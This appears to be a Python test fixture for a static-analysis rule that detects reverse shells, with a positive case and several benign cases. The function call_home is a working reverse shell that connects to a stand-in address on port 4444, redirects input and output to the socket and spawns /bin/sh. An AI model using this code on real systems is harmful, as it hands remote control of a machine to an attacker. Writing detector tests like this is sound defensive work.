import os
import pty
import socket
import subprocess


def call_home():
    s = socket.socket()
    s.connect(("198.51.100.7", 4444))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    # ruleid: reverse-shell
    pty.spawn("/bin/sh")


def safe():
    # ok: reverse-shell
    pty.spawn("/bin/sh")
    s = socket.socket()
    # ok: reverse-shell
    s.connect(("127.0.0.1", 80))
    # ok: reverse-shell
    subprocess.run(["/bin/sh", "-c", "uptime"])
